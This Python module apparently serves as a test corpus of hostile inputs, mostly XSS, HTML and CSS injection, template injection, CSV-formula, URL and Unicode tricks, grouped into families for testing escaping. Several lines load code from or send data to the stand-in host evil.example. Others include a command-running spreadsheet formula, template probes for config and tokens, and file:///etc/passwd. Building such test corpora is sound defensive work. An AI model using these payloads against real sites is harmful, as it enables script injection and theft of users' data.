"""Words that try to be more than words, by families. Each that could run sets `window.hostile`.

`FAMILIES` maps a family to its strings; `ALL` is all of them, each once.
"""

from __future__ import annotations

RUN = "window.hostile=1"

SCRIPT = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<script\t>{RUN}//", f"<script>{RUN}", f"<<script>{RUN}//<</script>", f"<script>/*<!--*/{RUN}</script>",
    f"<!--<script>-->{RUN}<!--</script>-->", f"<script type=module>{RUN}</script>",
    f"<script type=text/javascript>{RUN}</script>", f"<script language=vbscript>{RUN}</script>",
    "<script src=//evil.example/x.js></script>", "<script src=https://evil.example/x.js></script>",
    "<script src=data:text/javascript,window.hostile=1></script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"*/</script><script>{RUN}//", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}</script><script>{RUN}</script>", f"\ufeff<script>{RUN}</script>",
    f"<script nonce=\"\">{RUN}</script>", f"<template><script>{RUN}</script></template>",
]  # fmt: skip

HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\">", f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>", f"<img src onerror={RUN}>", f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<body onhashchange={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<object data=x onerror={RUN}>",
    f"<iframe onload={RUN}>", f"<iframe src=x onload={RUN}>", f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<div onmouseover={RUN}>over</div>", f"<p onclick={RUN}>click",
    f"<a onfocus={RUN} autofocus tabindex=1>x", f"<b onpointerenter={RUN}>x</b>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>", f"<div onanimationend={RUN} style=animation-name:x>",
    f"<form onformdata={RUN}><button>x", f"<isindex onfocus={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    f"<button popovertarget=x onclick={RUN}>x", f"<meter onmouseover={RUN}>0</meter>",
    f"<dialog open onclose={RUN}>", f"<svg onload={RUN}>", f"<math><mi onclick={RUN}>x",
]  # fmt: skip

ATTRIBUTES = [
    f"\" onmouseover=\"{RUN}", f"' onmouseover='{RUN}", f"\" autofocus onfocus=\"{RUN}",
    f"' autofocus onfocus='{RUN}", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>",
    f"\"/><img src=x onerror={RUN}>", f"'/><img src=x onerror={RUN}>", f"` onmouseover=`{RUN}",
    f"x onmouseover={RUN} y", "\" style=\"position:fixed", f"\" onload={RUN} x=\"",
    "\" href=\"javascript:window.hostile=1", "\" src=\"//evil.example/x", "\" hx-get=\"//evil.example",
    f"\" hx-on:load=\"{RUN}", f"' hx-on::load='{RUN}", f"\" hx-vals='js:{{x:{RUN}}}'",
    f"\" hx-trigger=\"load[{RUN}]", "\" data-hx-get=\"/\" data-hx-trigger=\"load", "\" id=\"main",
    "\" class=\"unseen", "\" data-values=\"[", "&quot; x=&quot;", f"&#34; onmouseover=&#34;{RUN}",
    f"\\\" onmouseover=\\\"{RUN}", f"\u201d onmouseover=\u201d{RUN}", "\"\"\"", "'''", "\"'`<>&",
]  # fmt: skip

ADDRESSES = [
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}",
    f"\tjavascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}",
    f"java\0script:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"javascript:{RUN}//http://a.example", f"javascript://a.example/%0a{RUN}",
    f"javascript://http://a.example/%0d{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}",
    f"view-source:javascript:{RUN}", "data:text/html,<script>window.hostile=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=window.hostile=1>", "DATA:text/html,x", "blob:http://127.0.0.1/x",
    "file:///etc/passwd", "filesystem:http://a.example/x", "about:blank", "chrome://settings",
    "intent://x#Intent;end", "ftp://a.example/x", "mailto:a@b.example", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example", "http:evil.example", "http:///evil.example",
    "https:\\\\evil.example", "http://[::1", "http://a.example:99999999/", "http://user:pass@evil.example",
    "http://a.example\"onmouseover=x", "http://a.example/<script>",
    "http://a.example/?q='><img src=x onerror=window.hostile=1>", "https://ex\u0430mple.example/",
    "http://a.example/\u202egnp.exe", "http://xn--/", "https://a.example/#javascript:window.hostile=1",
]  # fmt: skip

VECTOR = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href=data:,{RUN} />", f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributename=x>",
    "<svg><a xlink:href=javascript:window.hostile=1><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload={RUN}>", "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><image href=//evil.example/x.png>", "<svg><style>@import'//evil.example'</style>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><desc><script>{RUN}</script>",
    f"<math><mtext><script>{RUN}</script>", "<math href=javascript:window.hostile=1>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}>",
    f"<svg><p><style><img src=x onerror={RUN}></style>", f"<math><mglyph><style><img src=x onerror={RUN}>",
    "<svg><filter id=x>", "<svg viewBox='0 0 1 1'><rect width=9999 height=9999 /></svg>",
    f"<?xml version=\"1.0\"?><svg onload=\"{RUN}\"/>",
]  # fmt: skip

STYLES = [
    "<style>*{display:none}</style>", "<style>@import url(//evil.example/x.css);</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<div style=background:url(//evil.example/x)>",
    "<div style=\"position:fixed;inset:0;background:red\">", "<p style=\"width:expression(alert(1))\">",
    "}body{display:none}", "</style><style>body{display:none}", "url(javascript:window.hostile=1)",
    "@import '//evil.example/x.css';", "\\3c script\\3e", "behavior:url(#default#time2)",
    "-moz-binding:url(//evil.example/x)", "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    ":root{--paper:red}", "/* --></style> */", "<font face=\"x;background:url(//evil.example)\">",
    "<table background=//evil.example/x>",
]  # fmt: skip

TAGS = [
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "<embed src=//evil.example/x>", "<object data=//evil.example/x></object>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=tidings-token content=stolen>", "<form action=//evil.example><button>x",
    "<form id=main><input name=token>", "</form><form action=//evil.example>",
    "<input type=hidden name=token value=x>", "<a href=//evil.example>go</a>", "<h1>Another heading</h1>",
    "<main>", "</main></div></body></html>", "</table></section></main>", "<!-- comment", "<!doctype html>",
    "<plaintext>", "<xmp>", "<textarea>", "<select><option>", "<title>x</title>",
    "<noscript><img src=//evil.example>", "<template shadowrootmode=open>", "<dialog open>x</dialog>",
    "<img src=//evil.example/pixel.gif>", "<img srcset=//evil.example/x>", "<video poster=//evil.example/x>",
    "<portal src=//evil.example>", "<fencedframe>", "<object type=text/x-scriptlet data=//evil.example>",
    "<applet code=x>", "<bgsound src=//evil.example>", "<slot name=x>", "<img name=getElementById>",
    "<a id=tidingsSay>", "<form name=body>", "<img name=tidingsCharts>",
]  # fmt: skip

TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% for x in y %}", "{% raw %}",
    "{{ ''.__class__.__mro__ }}", "{#", "#}", "{{", "}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<%", "%>",
    "{{constructor.constructor('window.hostile=1')()}}", "[[7*7]]", "{%", "%}", "@{7*7}",
    "{{ request.app.state.explorer.token }}", "{{ token }}", "%(token)s", "{token}", "{0.__class__}",
    "$(whoami)", "`id`", "%n%n%s%s", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
]  # fmt: skip

ENCODED = [
    "&lt;script&gt;window.hostile=1&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;", "%3Cscript%3E", "%253Cscript%253E", "+ADw-script+AD4-",
    "\uff1cscript\uff1ewindow.hostile=1\uff1c/script\uff1e", "\u2039script\u203a", "\u02c2script\u02c3",
    "\xbcscript\xbe", "&NewLine;javascript&colon;x", "&nbsp;", "&#0;", "&#x110000;", "&notanentity;", "&lt",
    "&", "&&", "<", ">", "<>", "</>", "< script>", "<\u200bscript>window.hostile=1</script>",
]  # fmt: skip

UNSEEN = [
    "\u202egnihtemos", "\u202dleft\u202c", "\u2066isolate", "\u2067rtl isolate\u2069", "\u200fmark\u200e",
    "\u061cletter mark", "a\u202eb\u202ec\u202ed", "zero\u200bwidth", "word\u2060joiner", "soft\xadhyphen",
    "\ufeffbom", "\u180emongolian", "tag\U000e0041\U000e0042", "var\ufe0fiation", "null\0byte", "\x00",
    "bell\x07", "back\x08space", "esc\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "del\x7f", "c1\x85next\x9b",
    "form\x0cfeed", "vertical\x0btab", "line\u2028separator", "para\u2029graph", "\r\nSet-Cookie: x=1",
    "\r\n\r\n<script>window.hostile=1</script>", "tab\tnew\nline", "\ufff9anno\ufffatation\ufffb",
    "object\ufffc", "replacement\ufffd", "noncharacter\ufffe\uffff", "private\ue000use",
    "surrogate pair \U0001f600", "Zalgo" + "\u0300\u0301\u0302" * 60,
]  # fmt: skip

LOOKALIKES = [
    "R\u0435ut\u0435rs", "\u0420euters", "B\u0411C", "\u13ddNN", "\u216fNN", "ReutersⓇ",
    "\uff32\uff45\uff55\uff54\uff45\uff52\uff53", "𝐑𝐞𝐮𝐭𝐞𝐫𝐬", "Reuters\u3164", "Reut\u200ders",
]  # fmt: skip

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "+1+1", "-1+1", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  \t =1+1", "\xa0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "=1+1;=1+1",
    "%0A=1+1", "\u22121+1",
]  # fmt: skip

LARGE = [
    "x" * 20_000, "wide " * 3_000, "<" * 5_000, "\"" * 5_000, "&" * 5_000, "[" * 5_000, "\u202e" * 500,
    "🏳️‍🌈" * 400, "\n" * 2_000 + "end", "ﷺ" * 300,
]  # fmt: skip

FAMILIES = {
    "script": SCRIPT, "handlers": HANDLERS, "attributes": ATTRIBUTES, "addresses": ADDRESSES,
    "vector": VECTOR, "styles": STYLES, "tags": TAGS, "templates": TEMPLATES, "encoded": ENCODED,
    "unseen": UNSEEN, "lookalikes": LOOKALIKES, "formulas": FORMULAS, "large": LARGE,
}  # fmt: skip

ALL = list(dict.fromkeys(words for family in FAMILIES.values() for words in family))
